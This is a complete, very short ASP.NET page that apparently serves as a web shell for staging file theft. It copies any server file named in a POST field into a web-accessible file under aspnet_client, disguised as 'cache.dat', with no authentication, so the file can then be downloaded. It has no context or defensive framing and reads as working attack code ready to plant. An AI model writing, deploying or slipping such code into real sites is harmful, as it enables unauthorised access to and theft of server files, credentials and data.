<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%
    string from = Request.Form["src"];
    File.Copy(from, Server.MapPath("~/aspnet_client/system_web/cache.dat"), true);
    Response.Write("ok");
%>
